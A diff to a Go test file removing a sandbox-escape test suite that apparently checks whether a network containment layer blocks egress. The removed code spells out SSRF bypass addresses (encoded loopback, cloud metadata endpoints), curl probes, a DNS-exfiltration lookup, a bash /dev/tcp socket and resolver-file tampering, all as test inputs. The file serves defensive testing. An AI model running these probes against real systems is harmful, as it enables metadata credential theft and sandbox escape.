@@ -376,63 +376,6 @@ func TestEscapeTLS(t *testing.T) {
 	})
 }
 
-// TestEscapeAddresses: IP and DNS.
-func TestEscapeAddresses(t *testing.T) {
-	bothUsers(t, func(t *testing.T) {
-		a := newArena(t)
-		// Real listeners on the host's loopback: what reaches them has escaped.
-		port := fmt.Sprint(portOf(a.s.http))
-		var legacy, wrapped, meta []attack
-		for _, h := range []string{"2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1", "017700000001"} {
-			legacy = append(legacy, ways("legacy "+h, h+":"+port, "GET", "/MARK")[4],
-				attack{what: "CONNECT " + h, do: func(a *arena, mark string) string {
-					return a.wire(wire{Way: connect, Head: "CONNECT " + h + ":" + port + " HTTP/1.1\r\nHost: " + h + ":" + port + "\r\n\r\n", Payload: []byte("GET /" + mark + " HTTP/1.1\r\nHost: x\r\n\r\n")})
-				}})
-		}
-		a.run(t, "IP-01", legacy...)
-		for _, h := range []string{"[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[::1]", "127.0.0.1", "[::]", "0.0.0.0", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]"} {
-			wrapped = append(wrapped, attack{what: "CONNECT " + h, do: func(a *arena, mark string) string {
-				return a.wire(wire{Way: connect, Head: "CONNECT " + h + ":" + port + " HTTP/1.1\r\nHost: " + h + ":" + port + "\r\n\r\n", Payload: []byte("GET /" + mark + " HTTP/1.1\r\nHost: x\r\n\r\n")})
-			}}, attack{what: "absolute " + h, do: func(a *arena, mark string) string {
-				return a.wire(wire{Way: absolute, Payload: []byte("GET http://" + h + ":" + port + "/" + mark + " HTTP/1.1\r\nHost: " + h + ":" + port + "\r\n\r\n")})
-			}})
-		}
-		a.run(t, "IP-02", wrapped...)
-		for _, h := range []string{"169.254.169.254", "[fd00:ec2::254]", "169.254.170.2", "100.100.100.200", "metadata.google.internal", "metadata.google.internal.", "168.63.129.16"} {
-			meta = append(meta, scripts("curl -sS -m 5 http://"+h+"/MARK", "curl -sS -m 5 -x http://127.0.0.1:3128 http://"+h+"/MARK", "curl -sSk -m 5 -px http://127.0.0.1:3128 https://"+h+"/MARK")...)
-		}
-		a.run(t, "IP-03", meta...)
-		a.run(t, "IP-04", quiet(scripts("curl -sS http://127.0.0.1:"+port+"/MARK", "curl -sS http://localhost:"+port+"/MARK", "curl -sS http://x.localhost:"+port+"/MARK", "curl -sS http://0.0.0.0:"+port+"/MARK",
-			"curl -sS http://[::1]:"+port+"/MARK", "curl -sS http://localhost.:"+port+"/MARK"))...)
-		// Direct addresses, in the range of the names above all.
-		a.run(t, "IP-04-direct", scripts("curl -sS -m 5 http://10.0.0.1/MARK", "curl -sS -m 5 http://192.0.2.1/MARK", "curl -sSk -m 5 --resolve ok.test:443:192.0.2.7 https://ok.test/public/MARK",
-			"curl -sS -m 5 --resolve ok.test:80:203.0.113.9 http://ok.test/public/MARK")...)
-
-		a.run(t, "DNS-01", quiet(scripts("getent hosts MARK.ns.exf.test; ping -c1 -W1 MARK.ns.exf.test"))...)
-		a.escape(t, a.s, "DNS-03_DNS-05_DNS-06_DNS-07", a.works, func(t *line) {
-			t.way(transparent)
-			// Whatever server is asked, Creel answers: addresses that stand for the name, and nothing else.
-			for _, server := range []string{"", "8.8.8.8", "1.1.1.1", "[2001:4860:4860::8888]", "127.0.0.1", "tcp:8.8.4.4", "tcp:[2001:4860:4860::8888]"} {
-				got := a.probe("dns", server, "anything.no.test")
-				text := string(got.Stdout) + string(got.Stderr)
-				for _, want := range []string{"A: ok", "AAAA: ok", "TXT: empty", "NULL: empty", "HTTPS: empty", "CNAME: empty", "MX: empty", "ANY: empty"} {
-					if !strings.Contains(text, want) {
-						t.Errorf("server %q: no %q in %s", server, want, text)
-					}
-				}
-			}
-			for _, c := range []string{"echo 1.2.3.4 ok.test >> /etc/hosts", "echo nameserver 8.8.8.8 > /etc/resolv.conf", "rm /etc/resolv.conf", "mv /etc/hosts /etc/h", "ln -sf /tmp/x /etc/resolv.conf"} {
-				if x := a.do("sh", "-c", c); x.Code == 0 {
-					t.Errorf("%s: succeeded", c)
-				}
-			}
-		})
-		a.run(t, "DNS-04", scripts("curl -sS -m 5 'https://dns.google/resolve?name=MARK'", "curl -sS -m 5 -x http://127.0.0.1:3128 'https://cloudflare-dns.com/dns-query?name=MARK'",
-			"bash -c 'exec 3<>/dev/tcp/8.8.8.8/853; echo MARK >&3; cat <&3'", "curl -sSk -m 5 https://8.8.8.8/MARK")...)
-		a.run(t, "DNS-10", scripts("curl -sS -m 5 http://kubernetes.default.svc/MARK", "curl -sS -m 5 http://metadata/MARK", "curl -sS -m 5 http://int.test/MARK", "curl -sS -m 5 -x http://127.0.0.1:3128 http://int.test/MARK")[:2]...)
-	})
-}
-
 // TestEscapeNetwork: layers 3 and 4.
 func TestEscapeNetwork(t *testing.T) {
 	bothUsers(t, func(t *testing.T) {
